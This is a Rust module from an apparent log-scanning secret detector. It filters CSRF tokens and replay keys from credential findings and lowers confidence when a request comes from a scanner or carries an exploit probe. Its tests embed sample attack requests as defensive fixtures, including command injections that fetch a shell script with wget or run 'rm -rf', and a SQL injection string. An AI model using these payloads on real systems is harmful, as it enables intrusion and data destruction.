//! What the application on the line says about a credential-named parameter: the request path
//! and the parameters beside it tell an anti-CSRF token (phpMyAdmin, Drupal, PrestaShop) or a
//! replay-cache key (an OAuth 1 nonce map) from a credential, whatever the parameter is called;
//! the user agent, or an injection payload beside the value, tells a vulnerability scanner's or an
//! exploit kit's probe from a leak.
//!
//! It only ever removes parameter-rule detections (a self-identifying format is never judged by
//! its neighbours), lowers the confidence of a scanner's or an exploit kit's findings, and decides
//! from the line alone, never from file names.

use super::Detection;
use crate::decode::{self, Context, Decoded, Text};
use crate::rules::Matcher;

/// Removes, from `detections[from..]`, the parameter-rule detections that `line` shows are not
/// credentials.
pub fn drop_non_credentials(detections: &mut Vec<Detection>, from: usize, line: &[u8]) {
    let mut i = from;
    while i < detections.len() {
        if is_not_credential(&detections[i], line) {
            detections.remove(i);
        } else {
            i += 1;
        }
    }
}

fn is_not_credential(detection: &Detection, line: &[u8]) -> bool {
    if !matches!(detection.rule.matcher, Matcher::Param { .. }) {
        return false;
    }
    let (Some(param), Some(span)) = (&detection.param, detection.spans.first()) else {
        return false;
    };
    let name = param.to_ascii_lowercase();
    let url = enclosing_url(line, span.start).to_ascii_lowercase();
    let value = detection.secret.expose();
    match name.as_slice() {
        b"token" => {
            is_phpmyadmin(&url) || is_drupal_csrf(&url, value) || is_prestashop_csrf(&url, value)
        }
        b"key" | b"nonce" | b"cache_key" => is_replay_key(&url, value),
        _ => false,
    }
}

/// User agents of vulnerability scanners: what they send are probes (`password=admin` to a page
/// that does not exist), not credentials someone leaked.
const SCANNER_AGENTS: &[&str] = &[
    "nikto",
    "sqlmap",
    "acunetix",
    "netsparker",
    "w3af",
    "nessus",
    "openvas",
    "nmap scripting engine",
    "wpscan",
    "dirbuster",
    "gobuster",
    "nuclei",
    "zgrab",
    "masscan",
    "owasp zap",
    "jorgee",
];

/// A finding in a request a vulnerability scanner sent is weak evidence: its confidence becomes
/// `low` (still reported with `--min-confidence low`, and still masked by `redact`).
pub fn lower_for_scanners(detection: &mut Detection, user_agent: Option<&[u8]>) {
    let Some(agent) = user_agent else {
        return;
    };
    let agent = agent.to_ascii_lowercase();
    if SCANNER_AGENTS.iter().any(|s| contains(&agent, s)) {
        detection.confidence = crate::finding::Confidence::Low;
    }
}

/// A parameter-rule finding in a request whose other parameters carry an injection payload (an
/// exploit kit's `username=admin';ls #&password=asdf`) is weak evidence: the value is what the
/// kit sends, not a credential someone leaked. Its confidence becomes `low`, as for a scanner's
/// user agent.
pub fn lower_for_probes(detection: &mut Detection, line: &[u8]) {
    if !matches!(detection.rule.matcher, Matcher::Param { .. }) {
        return;
    }
    let (Some(param), Some(span)) = (&detection.param, detection.spans.first()) else {
        return;
    };
    let url = enclosing_url(line, span.start);
    let query = url
        .iter()
        .position(|&b| b == b'?')
        .map_or(url, |q| &url[q + 1..]);
    let own = param.to_ascii_lowercase();
    let probe = query.split(|&b| b == b'&').any(|pair| {
        let (name, value) = match pair.iter().position(|&b| b == b'=') {
            Some(eq) => (&pair[..eq], &pair[eq + 1..]),
            None => return false,
        };
        let value = percent_decoded(value).to_ascii_lowercase();
        name.to_ascii_lowercase() != own && crate::rules::checks::is_attack_payload(&value)
    });
    if probe {
        detection.confidence = crate::finding::Confidence::Low;
    }
}

/// One round of percent-decoding, with `+` as a space, as a query value is read.
fn percent_decoded(value: &[u8]) -> Vec<u8> {
    let (mut out, mut spare) = (Decoded::default(), Decoded::default());
    decode::decode_value_rounds(Text::raw(value, 0), Context::Query, 1, &mut out, &mut spare);
    out.bytes
}

/// The URL (or other whitespace- and quote-delimited text) around byte `pos` of `line`.
fn enclosing_url(line: &[u8], pos: usize) -> &[u8] {
    let is_end = |b: &u8| b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b'<' | b'>');
    let pos = pos.min(line.len());
    let start = line[..pos].iter().rposition(is_end).map_or(0, |p| p + 1);
    let end = line[pos..]
        .iter()
        .position(is_end)
        .map_or(line.len(), |p| pos + p);
    &line[start..end]
}

fn contains(haystack: &[u8], needle: &str) -> bool {
    memchr::memmem::find(haystack, needle.as_bytes()).is_some()
}

/// True when a parameter of `url` (or of a query logged on its own, also as a CGI
/// `QUERY_STRING=…`) starts with `text` (a name and `=`, maybe the start of its value): after
/// `?`, `&` (also written `&amp;` or JSON's `\u0026`), `=` or at the start.
fn has_param(url: &[u8], text: &str) -> bool {
    memchr::memmem::find_iter(url, text.as_bytes()).any(|at| {
        let before = &url[..at];
        let separators: [&[u8]; 5] = [b"?", b"&", b"&amp;", b"\\u0026", b"="];
        before.is_empty() || separators.iter().any(|sep| before.ends_with(sep))
    })
}

/// phpMyAdmin's anti-CSRF `token`: its request paths (`/phpmyadmin/`, `/pma/`, its per-page
/// scripts) or the parameters it sends with every token (`route=/…`, `ajax_request`,
/// `ajax_page_request`, `collation_connection`, `server=<n>` of older releases).
fn is_phpmyadmin(url: &[u8]) -> bool {
    let server_number = ["?server=", "&server="].iter().any(|p| {
        memchr::memmem::find_iter(url, p.as_bytes())
            .any(|at| url.get(at + p.len()).is_some_and(u8::is_ascii_digit))
    });
    server_number
        || [
            "phpmyadmin",
            "/pma/",
            "ajax_request=",
            "ajax_page_request=",
            "route=/",
            "route=%2f",
            "collation_connection=",
        ]
        .iter()
        .any(|marker| contains(url, marker))
        || ["/server_", "/db_", "/tbl_"]
            .iter()
            .any(|script| contains(url, script) && contains(url, ".php"))
}

/// Drupal's anti-CSRF `token` (43 base64url characters, the form Drupal's CSRF token generator
/// gives) on an admin or user-action link, which Drupal writes with `destination=`, or on a step
/// of its maintenance scripts (`/update.php?op=selection&token=…`, `authorize.php`), which
/// always name their step with `op=`.
fn is_drupal_csrf(url: &[u8], value: &[u8]) -> bool {
    let drupal_shape = value.len() == 43
        && value
            .iter()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_'));
    let (path, query) = url.split_at(memchr::memchr(b'?', url).unwrap_or(url.len()));
    let maintenance_step = (path.ends_with(b"/update.php") || path.ends_with(b"/authorize.php"))
        && has_param(query, "op=");
    drupal_shape
        && (contains(url, "destination=")
            || contains(url, "/admin/")
            || contains(url, "/user/")
            || maintenance_step)
}

/// PrestaShop's anti-CSRF `token` (32 lowercase hex, one per controller and employee, or the
/// shop's static token) on a URL its dispatcher wrote: a `controller=` (back office `Admin…`,
/// module controllers such as `apiSecurityPsMbo`, shop-side `cart`, `product`…), a legacy AJAX
/// call's `tab=Admin…`, a Symfony `_token` beside it on the back office's `/index.php/…` routes,
/// or the shop's cart links (`id_product=` with `add`, `update` or `delete`).
fn is_prestashop_csrf(url: &[u8], value: &[u8]) -> bool {
    let prestashop_shape =
        value.len() == 32 && value.iter().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f'));
    let param = |text: &str| has_param(url, text);
    let cart_link = param("id_product=") && (param("add=") || param("update=") || param("delete="));
    prestashop_shape
        && (param("controller=") || param("tab=admin") || param("_token=") || cart_link)
}

/// A replay-cache key: a UUID run together with more text (an OAuth 1 nonce map's
/// `<nonce><consumer key>`), or any key on a nonce or replay endpoint.
fn is_replay_key(url: &[u8], value: &[u8]) -> bool {
    let uuid_led = value.len() > 36 && crate::rules::checks::is_uuid(&value[..36]);
    let path = url.split(|&b| b == b'?').next().unwrap_or(url);
    uuid_led || contains(path, "nonce") || contains(path, "replay")
}

#[cfg(test)]
mod tests {
    use crate::detect::Detector;
    use crate::logformat::LogType;

    /// The rules found on a combined line requesting `target` from `referer`.
    fn rules_found_from(target: &str, referer: &str) -> Vec<&'static str> {
        let line = format!(
            "203.0.113.9 - - [04/Dec/2026:10:00:00 +0000] \"GET {target} HTTP/1.1\" 200 5 \"{referer}\" \"curl/8\""
        );
        let mut out = Vec::new();
        Detector::builtin().scan_line(line.as_bytes(), LogType::Combined, &mut out);
        out.iter().map(|d| d.rule.id).collect()
    }

    fn rules_found(target: &str) -> Vec<&'static str> {
        rules_found_from(target, "-")
    }

    #[test]
    fn phpmyadmin_tokens_are_not_reported_wherever_phpmyadmin_lives() {
        let token = "0ec60985f162086c674021e77f8f507b";
        for target in [
            format!(
                "/phpmyadmin/index.php?route=/server/databases&ajax_request=true&token={token}"
            ),
            format!("/index.php?route=/sql&db=shop&token={token}"),
            format!("/pma/sql.php?token={token}"),
            format!("/tools/db_structure.php?db=shop&token={token}"),
            format!("/admin/x.php?ajax_request=true&token={token}"),
            format!("/main.php?token={token}&server=1&lang=en"),
            format!("/import.php?collation_connection=utf8mb4_unicode_ci&token={token}"),
        ] {
            assert!(rules_found(&target).is_empty(), "{target}");
        }
        // The same value elsewhere is still a credential-like value under a credential name.
        assert_eq!(
            rules_found(&format!("/api/v2/export?token={token}")),
            ["generic-credential-param"]
        );
    }

    #[test]
    fn drupal_maintenance_script_tokens_are_not_reported() {
        let token = "Vb2k9QmZ_r4TnYc8LpWx1sHd0aEuF6gJiKoMq3NvR7A";
        for target in [
            format!("/update.php?op=selection&token={token}"),
            format!("/drupal7/update.php?op=start&id=3&token={token}"),
            format!("/authorize.php?batch=1&op=start&token={token}"),
        ] {
            assert!(rules_found(&target).is_empty(), "{target}");
        }
        // In the Referer of the assets that page loads too.
        let referer = format!("https://www.example.org/update.php?op=selection&token={token}");
        assert!(rules_found_from("/misc/jquery.js?v=1.4.4", &referer).is_empty());
        // Without the step, or under another script, it is a credential-like value.
        for target in [
            format!("/update.php?token={token}"),
            format!("/api/v1/update?op=sync&token={token}"),
            format!("/hooks/update.php.bak?op=1&token={token}"),
        ] {
            assert_eq!(
                rules_found(&target),
                ["generic-credential-param"],
                "{target}"
            );
        }
    }

    #[test]
    fn prestashop_tokens_are_not_reported_beside_its_dispatcher() {
        let token = "5c1f0e9a7b3d24e6f8a0c2b4d6e8f1a3";
        for target in [
            format!("/admin482xq/index.php?controller=AdminOrders&token={token}"),
            format!("/admin482xq/index.php?controller=AdminCarts&id_cart=7&viewcart&token={token}"),
            format!("/admin482xq/index.php/sell/catalog/products?token={token}&_token=Vb2k9QmZ_r4TnYc8LpWx1sHd0aEuF6gJiKoMq3NvR7A"),
            format!("/admin482xq/index.php?token={token}&ajax=1&tab=AdminStates&id_country=8"),
            format!("/index.php?controller=cart&add=1&id_product=12&qty=1&token={token}"),
            format!("/module/ps_mbo/apiSecurityPsMbo?controller=apiSecurityPsMbo&token={token}"),
            format!("/es/carrito?delete=1&id_product=5&id_product_attribute=0&token={token}"),
            format!("/index.php?id_lang=1&amp;controller=AdminTabs&amp;token={token}"),
        ] {
            assert!(rules_found(&target).is_empty(), "{target}");
        }
        // In the Referer too: the back office page the browser came from.
        let referer =
            format!("http://shop.test/admin482xq/index.php?controller=AdminLogin&token={token}");
        assert!(rules_found_from("/img/logo.png", &referer).is_empty());
        assert_eq!(
            rules_found_from(
                "/img/logo.png",
                &format!("http://shop.test/feed?token={token}")
            ),
            ["generic-credential-param"]
        );
    }

    #[test]
    fn a_prestashop_shaped_token_elsewhere_is_still_reported() {
        let token = "5c1f0e9a7b3d24e6f8a0c2b4d6e8f1a3";
        for target in [
            // No PrestaShop sibling: an API token.
            format!("/api/v2/export?token={token}"),
            format!("/download?id_product=12&token={token}"),
            // Siblings whose names only end like PrestaShop's.
            format!("/api/v1/feed?access_token=x&mycontroller=a&token={token}"),
            format!("/api/v1/feed?stab=admin&token={token}"),
            // PrestaShop's siblings, but not its token shape.
            format!(
                "/index.php?controller=AdminOrders&token={}",
                token.to_uppercase()
            ),
            "/index.php?controller=AdminOrders&token=Qdxp3CdVYs5kPqTDyStu7aWm4nB8".to_string(),
        ] {
            assert_eq!(
                rules_found(&target),
                ["generic-credential-param"],
                "{target}"
            );
        }
    }

    #[test]
    fn what_a_vulnerability_scanner_sends_is_low_confidence() {
        let line = "198.51.100.4 - - [22/Apr/2004:11:53:49 -0400] \"GET /admin/login.php?username=test&password=Xk3mP9qLr2sT HTTP/1.0\" 404 287 \"-\" \"Mozilla/4.75 (Nikto/1.32 )\"";
        let mut out = Vec::new();
        Detector::builtin().scan_line(line.as_bytes(), LogType::Combined, &mut out);
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].confidence, crate::finding::Confidence::Low);
        let browser = line.replace("Nikto/1.32", "Windows NT 10.0");
        let mut out = Vec::new();
        Detector::builtin().scan_line(browser.as_bytes(), LogType::Combined, &mut out);
        assert_eq!(out[0].confidence, crate::finding::Confidence::Medium);
    }

    #[test]
    fn a_password_beside_an_injection_payload_is_low_confidence() {
        let confidences = |target: &str| {
            let line = format!(
                "192.0.2.77 - - [04/Dec/2026:10:00:00 +0000] \"GET {target} HTTP/1.1\" 404 9 \"-\" \"Mozilla/5.0\""
            );
            let mut out = Vec::new();
            Detector::builtin().scan_line(line.as_bytes(), LogType::Combined, &mut out);
            out.iter().map(|d| d.confidence).collect::<Vec<_>>()
        };
        use crate::finding::Confidence::{Low, Medium};
        for target in [
            "/cgi-bin/login.cgi?username=root%27%3Buname%20-a%20%23&password=qwer",
            "/cgi-bin/login.cgi?user=x%3Bwget+http%3A%2F%2F198.51.100.3%2Fb.sh&pass=Xk3mP9qLr2",
            "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+%2Ftmp%2F*%3Bwget&password=zq8Lm2Tp",
            "/login.php?user=%27+or+%27%27%3D%27&pwd=Xk3mP9qLr2sT",
        ] {
            assert_eq!(confidences(target), [Low], "{target}");
        }
        // Ordinary siblings (a user name, an apostrophe in a name, a redirect) leave it medium.
        for target in [
            "/account/login?username=jdoe&password=Xk3mP9qLr2sT",
            "/account/login?name=O%27Brien&password=Xk3mP9qLr2sT",
            "/account/login?next=%2Fcart%3Fstep%3D2&password=Xk3mP9qLr2sT",
            "/account/login?note=tom%26jerry&password=Xk3mP9qLr2sT",
        ] {
            assert_eq!(confidences(target), [Medium], "{target}");
        }
    }

    #[test]
    fn replay_keys_are_not_reported() {
        let composite = "df8e0415-1c38-c9e4-1e88-409d134cf133Qdxp3CdVYs5kPqTDyStu";
        assert!(rules_found(&format!("/oauth/keymanager/nonce?key={composite}")).is_empty());
        assert!(rules_found(&format!("/km/lookup?key={composite}")).is_empty());
        assert!(rules_found("/oauth/nonce/check?key=Qdxp3CdVYs5kPqTDyStu7a").is_empty());
        assert_eq!(
            rules_found("/v1/geo?key=Qdxp3CdVYs5kPqTDyStu7a"),
            ["generic-credential-param"]
        );
    }
}
